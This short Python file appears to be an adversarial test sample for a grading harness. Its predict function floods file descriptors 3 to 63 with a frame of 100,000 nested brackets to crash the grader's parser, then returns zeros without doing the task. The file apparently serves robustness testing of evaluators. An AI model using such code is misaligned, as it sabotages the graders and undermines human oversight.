# Tries to overflow the stack of the grader's parser by the header alone.
# expects: predict
# class: wire
# falls: unittest lost
import os
import struct


def send(frame):
    for handle in range(3, 64):
        try:
            os.write(handle, frame)
        except OSError:
            pass


def predict(theta, X):
    header = 100_000 * b"["
    send(struct.pack("<II", 4 + len(header), len(header)) + header)
    return np.zeros(len(X))
